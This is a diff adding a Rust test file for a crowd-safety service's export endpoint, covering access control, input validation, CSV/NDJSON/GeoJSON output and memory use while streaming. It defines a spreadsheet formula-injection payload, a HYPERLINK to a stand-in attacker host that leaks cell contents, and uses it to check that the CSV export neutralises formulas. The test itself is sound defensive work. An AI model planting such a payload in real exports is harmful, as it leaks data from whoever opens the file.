@@ -1,0 +1,501 @@
+//! `GET /api/v1/export` (DESIGN §11): who may export, what is refused, what
+//! each format holds on both engines, and that a long export streams in
+//! constant memory from a separate server process.
+
+use std::process::Command;
+use std::time::Duration;
+
+use futures_util::StreamExt;
+use serde_json::{Value, json};
+
+use crate::helpers::*;
+
+const HOSTILE: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+
+/// GETs a path as text, with its status and headers.
+async fn fetch(app: &TestApp, path: &str, token: Option<&str>) -> (u16, String, awc::http::header::HeaderMap) {
+    let mut req = app.client.get(format!("{}{path}", app.address));
+    if let Some(t) = token {
+        req = req.insert_header(("Authorization", format!("Bearer {t}")));
+    }
+    let mut resp = req.send().await.expect("request");
+    let body = resp.body().limit(256 << 20).await.expect("body");
+    (
+        resp.status().as_u16(),
+        String::from_utf8_lossy(&body).into_owned(),
+        resp.headers().clone(),
+    )
+}
+
+async fn report(app: &TestApp, body: Value) -> String {
+    let resp = app
+        .client
+        .post(format!("{}/api/v1/reports", app.address))
+        .send_json(&body)
+        .await;
+    let mut resp = resp.expect("report");
+    let status = resp.status().as_u16();
+    let created: Value = resp.json().await.expect("json");
+    assert_eq!(status, 201, "{created}");
+    created["id"].as_str().expect("id").to_owned()
+}
+
+async fn broadcast(app: &TestApp, area: Value) -> String {
+    let mut body = minimal_broadcast();
+    body["area"] = area;
+    let mut resp = app
+        .client
+        .post(format!("{}/api/v1/broadcasts", app.address))
+        .bearer_auth(&app.operator)
+        .send_json(&body)
+        .await
+        .expect("broadcast");
+    let status = resp.status().as_u16();
+    let created: Value = resp.json().await.expect("json");
+    assert_eq!(status, 201, "{created}");
+    created["id"].as_str().expect("id").to_owned()
+}
+
+fn python(mode: &str, text: &str) -> Value {
+    let dir = tempfile::tempdir().expect("tempdir");
+    let file = dir.path().join(format!("export.{mode}"));
+    std::fs::write(&file, text).expect("write");
+    let script = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/tools/check_export.py");
+    let out = Command::new("python3")
+        .arg(script)
+        .arg(mode)
+        .arg(&file)
+        .output()
+        .expect("python3 runs");
+    assert!(
+        out.status.success(),
+        "{mode} does not hold: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    serde_json::from_slice(&out.stdout).expect("the checker prints JSON")
+}
+
+fn lines(ndjson: &str) -> Vec<Value> {
+    ndjson
+        .lines()
+        .map(|l| serde_json::from_str(l).expect("each line is one JSON object"))
+        .collect()
+}
+
+#[actix_web::test]
+async fn only_operators_export() {
+    let app = spawn_app(EngineKind::Memory).await;
+    assert_eq!(fetch(&app, "/api/v1/export", None).await.0, 401);
+    assert_eq!(fetch(&app, "/api/v1/export", Some(&app.commander)).await.0, 403);
+    assert_eq!(fetch(&app, "/api/v1/export", Some(&app.ingest)).await.0, 403);
+    let forged = format!("{}x", app.operator);
+    assert_eq!(fetch(&app, "/api/v1/export", Some(&forged)).await.0, 401);
+    assert_eq!(fetch(&app, "/api/v1/export", Some(&app.operator)).await.0, 200);
+}
+
+#[actix_web::test]
+async fn bad_requests_are_refused_naming_the_field() {
+    let app = spawn_app(EngineKind::Memory).await;
+    let cases = [
+        ("from=yesterday", "invalid_timestamp", "from"),
+        ("to=2026-13-01T00:00:00Z", "invalid_timestamp", "to"),
+        (
+            "from=2026-06-02T00:00:00Z&to=2026-06-01T00:00:00Z",
+            "invalid_period",
+            "to",
+        ),
+        (
+            "from=2026-06-01T00:00:00Z&to=2026-06-01T00:00:00Z",
+            "invalid_period",
+            "to",
+        ),
+        (
+            "from=2020-01-01T00:00:00Z&to=2026-06-01T00:00:00Z",
+            "period_too_long",
+            "from",
+        ),
+        ("what=reports,posts", "invalid_what", "what"),
+        ("what=", "invalid_what", "what"),
+        ("what=heatmap", "not_available", "what"),
+        ("what=reports,zones", "not_available", "what"),
+        ("format=xlsx", "invalid_format", "format"),
+        ("format=csv", "csv_needs_one_what", "what"),
+        ("format=csv&what=reports,audit", "csv_needs_one_what", "what"),
+        ("what=%00%0d%0a", "invalid_what", "what"),
+    ];
+    for (query, code, field) in cases {
+        let (status, body) = app.get(&format!("/api/v1/export?{query}"), Some(&app.operator)).await;
+        assert_eq!(status, 400, "{query}: {body}");
+        assert_eq!(body["error"]["code"], code, "{query}: {body}");
+        assert_eq!(body["error"]["field"], field, "{query}: {body}");
+    }
+    // An oversized list is refused like any other unknown value.
+    let long = format!("/api/v1/export?what={}", "reports,".repeat(1_000));
+    let (status, body) = app.get(&long, Some(&app.operator)).await;
+    assert!(status == 400 || status == 414 || status == 431, "{status} {body}");
+}
+
+/// What every format holds, on one engine.
+async fn exports_every_format(kind: EngineKind) {
+    let app = spawn_app(kind).await;
+    let started = chrono::Utc::now() - chrono::Duration::seconds(5);
+    let hostile = report(
+        &app,
+        json!({"lat": 44.4937, "lon": 11.3430, "category": "fire", "text": HOSTILE, "contact": "+39 000 000"}),
+    )
+    .await;
+    let personal = report(
+        &app,
+        json!({"lat": 44.4940, "lon": 11.3460, "category": "medical", "text": "call me on +39 333 1234567"}),
+    )
+    .await;
+    // Drawn clockwise: the export turns it counter-clockwise.
+    let polygon = broadcast(
+        &app,
+        json!({"polygons": [[[11.34, 44.49], [11.34, 44.50], [11.35, 44.50], [11.35, 44.49], [11.34, 44.49]]]}),
+    )
+    .await;
+    let zoned = broadcast(&app, json!({"zones": ["piazza-maggiore"]})).await;
+    let moderated = app
+        .client
+        .patch(format!("{}/api/v1/reports/{personal}", app.address))
+        .bearer_auth(&app.operator)
+        .send_json(&json!({"status": "verified"}))
+        .await
+        .expect("moderate");
+    assert_eq!(moderated.status().as_u16(), 200);
+
+    let period = format!(
+        "from={}&to={}",
+        started
+            .to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
+            .replace('+', "%2B"),
+        (chrono::Utc::now() + chrono::Duration::seconds(5))
+            .to_rfc3339_opts(chrono::SecondsFormat::Secs, true)
+            .replace('+', "%2B")
+    );
+
+    // NDJSON: every kind, operators' fields.
+    let (status, body, headers) = fetch(&app, &format!("/api/v1/export?{period}"), Some(&app.operator)).await;
+    assert_eq!(status, 200, "{body}");
+    assert_eq!(headers.get("content-type").expect("type"), "application/x-ndjson");
+    let disposition = headers
+        .get("content-disposition")
+        .and_then(|d| d.to_str().ok())
+        .expect("disposition");
+    assert!(
+        disposition.starts_with("attachment; filename=\"campanile-all-"),
+        "{disposition}"
+    );
+    assert!(
+        disposition.contains(&started.format("%Y%m%dT%H%M%SZ").to_string()),
+        "{disposition}"
+    );
+    let records = lines(&body);
+    let of = |kind: &str| {
+        records
+            .iter()
+            .filter(|r| r["kind"] == kind)
+            .cloned()
+            .collect::<Vec<_>>()
+    };
+    let reports = of("report");
+    assert_eq!(reports.len(), 2, "{body}");
+    let first = reports
+        .iter()
+        .find(|r| r["id"] == hostile.as_str())
+        .expect("the hostile report");
+    assert_eq!(first["contact"], "+39 000 000", "operators see contact");
+    assert_eq!(first["text"], HOSTILE, "NDJSON keeps the text as sent");
+    let second = reports
+        .iter()
+        .find(|r| r["id"] == personal.as_str())
+        .expect("the other");
+    assert_eq!(
+        second["text"], "call me on +39 333 1234567",
+        "operators read unmasked, as GET /reports"
+    );
+    assert_eq!(second["status"], "verified");
+    let broadcasts = of("broadcast");
+    assert_eq!(broadcasts.len(), 2, "{body}");
+    assert!(
+        broadcasts
+            .iter()
+            .all(|b| b["sender"] == "test-operator" && b["acks"].is_array())
+    );
+    let audit = of("audit");
+    assert!(audit.iter().any(|a| a["action"] == "report.moderate"), "{body}");
+    let export = audit
+        .iter()
+        .find(|a| a["action"] == "export")
+        .expect("the export itself is audited");
+    assert_eq!(export["sub"], "test-operator");
+    assert_eq!(
+        export["detail"]["what"],
+        json!(["reports", "broadcasts", "alerts", "audit"])
+    );
+
+    // Only what was asked for; a period before everything holds nothing.
+    let (_, body, _) = fetch(
+        &app,
+        &format!("/api/v1/export?{period}&what=broadcasts"),
+        Some(&app.operator),
+    )
+    .await;
+    assert!(lines(&body).iter().all(|r| r["kind"] == "broadcast") && lines(&body).len() == 2);
+    let (_, body, _) = fetch(
+        &app,
+        "/api/v1/export?from=2020-01-01T00:00:00Z&to=2020-01-02T00:00:00Z&what=reports,broadcasts",
+        Some(&app.operator),
+    )
+    .await;
+    assert_eq!(body, "", "nothing was stored then");
+
+    // CSV: one table, opens in Python's csv, formulas defused.
+    let (status, body, headers) = fetch(
+        &app,
+        &format!("/api/v1/export?{period}&what=reports&format=csv"),
+        Some(&app.operator),
+    )
+    .await;
+    assert_eq!(status, 200);
+    assert_eq!(headers.get("content-type").expect("type"), "text/csv; charset=utf-8");
+    let rows = python("csv", &body);
+    let rows = rows.as_array().expect("rows");
+    assert_eq!(rows.len(), 3, "a header and two reports: {rows:?}");
+    let header: Vec<&str> = rows[0]
+        .as_array()
+        .expect("header")
+        .iter()
+        .filter_map(Value::as_str)
+        .collect();
+    let col = |name: &str| header.iter().position(|h| *h == name).expect(name);
+    let hostile_row = rows
+        .iter()
+        .find(|r| r[col("id")] == hostile.as_str())
+        .expect("hostile row");
+    assert_eq!(
+        hostile_row[col("text")],
+        format!("'{HOSTILE}"),
+        "a formula is shown, not run"
+    );
+    assert_eq!(
+        hostile_row[col("contact")],
+        "'+39 000 000",
+        "a leading + is a formula too"
+    );
+    assert_eq!(hostile_row[col("lon")], "11.343");
+    assert_eq!(hostile_row[col("kind")], "report");
+    for row in rows.iter().skip(1) {
+        for cell in row.as_array().expect("row").iter().filter_map(Value::as_str) {
+            assert!(!cell.starts_with(['=', '+', '-', '@']), "cell {cell:?} would run");
+        }
+    }
+    let (_, audit_csv, _) = fetch(
+        &app,
+        &format!("/api/v1/export?{period}&what=audit&format=csv"),
+        Some(&app.operator),
+    )
+    .await;
+    let audit_rows = python("csv", &audit_csv);
+    assert_eq!(audit_rows[0], json!(["kind", "at", "sub", "action", "detail"]));
+
+    // GeoJSON: valid by RFC 7946, reports as [lon, lat], areas as polygons.
+    let (status, body, headers) = fetch(
+        &app,
+        &format!("/api/v1/export?{period}&format=geojson"),
+        Some(&app.operator),
+    )
+    .await;
+    assert_eq!(status, 200);
+    assert_eq!(headers.get("content-type").expect("type"), "application/geo+json");
+    let summary = python("geojson", &body);
+    assert_eq!(summary["kinds"]["report:Point"], 2, "{summary}");
+    assert_eq!(summary["kinds"]["broadcast:Polygon"], 2, "{summary}");
+    assert!(summary["kinds"]["audit:null"].as_u64().unwrap_or(0) >= 2, "{summary}");
+    let doc: Value = serde_json::from_str(&body).expect("one JSON document");
+    let feature = |id: &str| {
+        doc["features"]
+            .as_array()
+            .and_then(|f| f.iter().find(|f| f["id"] == id))
+            .cloned()
+            .expect("feature")
+    };
+    assert_eq!(feature(&hostile)["geometry"]["coordinates"], json!([11.343, 44.4937]));
+    let ring = &feature(&polygon)["geometry"]["coordinates"][0];
+    assert_eq!(ring.as_array().map(Vec::len), Some(5), "closed: {ring}");
+    assert_eq!(feature(&zoned)["geometry"]["type"], "Polygon");
+    app.stop().await;
+}
+
+#[actix_web::test]
+async fn every_format_on_memory() {
+    exports_every_format(EngineKind::Memory).await;
+}
+
+#[actix_web::test]
+async fn every_format_on_redis() {
+    exports_every_format(EngineKind::Redis).await;
+}
+
+/// The server process's resident memory, in KiB.
+fn rss_kib(pid: u32) -> u64 {
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("/proc status");
+    status
+        .lines()
+        .find_map(|l| l.strip_prefix("VmRSS:"))
+        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
+        .expect("VmRSS")
+}
+
+/// 10,000 reports (and broadcasts, alerts) exported from a Redis engine by a
+/// separate server process, whose RSS is read throughout the stream.
+#[actix_web::test]
+async fn a_large_export_streams_in_constant_memory_and_survives_clients_that_go_away() {
+    let redis = TestRedis::start();
+    let port = free_port();
+    let mut server = Command::new(env!("CARGO_BIN_EXE_campanile"))
+        .args([
+            "serve",
+            "--listen",
+            &format!("127.0.0.1:{port}"),
+            "--redis-url",
+            &redis.url(),
+        ])
+        .current_dir(env!("CARGO_MANIFEST_DIR"))
+        .env("CAMPANILE_JWT_SECRET", SECRET)
+        .stdout(std::process::Stdio::null())
+        .stderr(std::process::Stdio::null())
+        .spawn()
+        .expect("serve");
+    let pid = server.id();
+    let app = TestApp::remote(port);
+    let up = eventually(|| async {
+        let resp = app.client.get(format!("{}/readyz", app.address)).send().await.ok()?;
+        resp.status().is_success().then_some(())
+    })
+    .await;
+    assert!(up.is_some(), "the server did not start");
+
+    // One real report and broadcast, copied in the engine as the server
+    // stored them: 10,000 reports over the last day, 1,000 broadcasts, 1,000 alerts.
+    let long_text = format!("{HOSTILE} {}", "crowd pressing at the east gate ".repeat(55));
+    let seed = report(
+        &app,
+        json!({"lat": 44.4937, "lon": 11.3430, "category": "crowd", "text": long_text, "contact": "+39 000 000"}),
+    )
+    .await;
+    broadcast(&app, json!({"zones": ["piazza-maggiore"]})).await;
+    let mut args = test_args();
+    args.redis_url = Some(redis.url());
+    let engine = engine_for(&args).await;
+    let stored: Value =
+        serde_json::from_str(&engine.report(&seed).await.expect("read").expect("stored")).expect("json");
+    let first = engine.broadcasts_after(0).await.expect("log");
+    let stored_broadcast: Value = serde_json::from_str(&first[0].body).expect("json");
+    let now = chrono::Utc::now();
+    const REPORTS: usize = 10_000;
+    const OTHERS: usize = 1_000;
+    for chunk in (0..REPORTS).collect::<Vec<_>>().chunks(500) {
+        let writes = chunk.iter().map(|i| {
+            let engine = engine.clone();
+            let mut body = stored.clone();
+            let at = now - chrono::Duration::seconds(((i * 8) % 86_000) as i64 + 10);
+            let id = format!("bulk{i:05}");
+            body["id"] = json!(id);
+            body["received_at"] = json!(at.to_rfc3339());
+            async move {
+                engine
+                    .put_report(&id, &body.to_string(), at.timestamp())
+                    .await
+                    .expect("put")
+            }
+        });
+        futures_util::future::join_all(writes).await;
+    }
+    for i in 0..OTHERS {
+        let mut body = stored_broadcast.clone();
+        body["id"] = json!(format!("b{i}"));
+        engine
+            .append_broadcast(&format!("b{i}"), &body.to_string(), now.timestamp())
+            .await
+            .expect("append");
+        let alert = json!({"id": format!("a{i}"), "kind": "surge", "cell": "891ea6d6533ffff", "res": 9,
+            "lat": 44.4937, "lon": 11.343, "zone": null, "place": "near", "count": 40, "contributors": 30,
+            "density_km2": 380.0, "baseline_per_min": 2.0, "raised_at": now.to_rfc3339()});
+        engine
+            .raise_alert(&format!("k{i}"), &alert.to_string(), 60, now.timestamp() - i as i64)
+            .await
+            .expect("raise");
+    }
+
+    // Warm the server's paths, then measure from there.
+    let (status, _, _) = fetch(&app, "/api/v1/export?what=audit", Some(&app.operator)).await;
+    assert_eq!(status, 200);
+    let before = rss_kib(pid);
+    let mut peak = before;
+    let mut resp = app
+        .client
+        .get(format!("{}/api/v1/export", app.address))
+        .bearer_auth(&app.operator)
+        .timeout(Duration::from_secs(600))
+        .send()
+        .await
+        .expect("export");
+    assert_eq!(resp.status().as_u16(), 200);
+    let mut bytes = 0usize;
+    let mut counts = std::collections::HashMap::<String, usize>::new();
+    let mut partial = Vec::new();
+    while let Some(chunk) = resp.next().await {
+        let chunk = chunk.expect("chunk");
+        bytes += chunk.len();
+        partial.extend_from_slice(&chunk);
+        while let Some(end) = partial.iter().position(|b| *b == b'\n') {
+            let line: Vec<u8> = partial.drain(..=end).collect();
+            let record: Value = serde_json::from_slice(&line).expect("a JSON line");
+            *counts
+                .entry(record["kind"].as_str().unwrap_or("?").to_owned())
+                .or_default() += 1;
+        }
+        peak = peak.max(rss_kib(pid));
+    }
+    let growth_mib = (peak.saturating_sub(before)) as f64 / 1024.0;
+    println!(
+        "export of {} MiB: server RSS {} MiB before, peak growth {growth_mib:.1} MiB",
+        bytes / (1 << 20),
+        before / 1024
+    );
+    assert_eq!(counts.get("report"), Some(&(REPORTS + 1)), "{counts:?}");
+    assert_eq!(counts.get("broadcast"), Some(&(OTHERS + 1)), "{counts:?}");
+    assert_eq!(counts.get("alert"), Some(&OTHERS), "{counts:?}");
+    assert!(
+        bytes > 15 << 20,
+        "the export is larger than the allowance: {bytes} bytes"
+    );
+    assert!(growth_mib < 50.0, "RSS grew by {growth_mib:.1} MiB");
+
+    // Clients that read a little and go away: the server neither holds the
+    // rest nor falls over.
+    for _ in 0..5 {
+        let mut resp = app
+            .client
+            .get(format!("{}/api/v1/export?format=geojson", app.address))
+            .bearer_auth(&app.operator)
+            .send()
+            .await
+            .expect("export");
+        assert_eq!(resp.status().as_u16(), 200);
+        let first = resp.next().await.expect("a first chunk").expect("chunk");
+        assert!(first.starts_with(br#"{"type":"FeatureCollection""#));
+        drop(resp);
+    }
+    tokio::time::sleep(Duration::from_secs(1)).await;
+    let (status, _, _) = fetch(&app, "/healthz", None).await;
+    assert_eq!(status, 200, "the server is alive");
+    let after = rss_kib(pid);
+    let left_mib = after.saturating_sub(before) as f64 / 1024.0;
+    println!("after 5 abandoned exports: RSS {left_mib:.1} MiB above the start");
+    assert!(left_mib < 50.0, "abandoned exports left {left_mib:.1} MiB");
+    let _ = server.kill();
+    let _ = server.wait();
+}
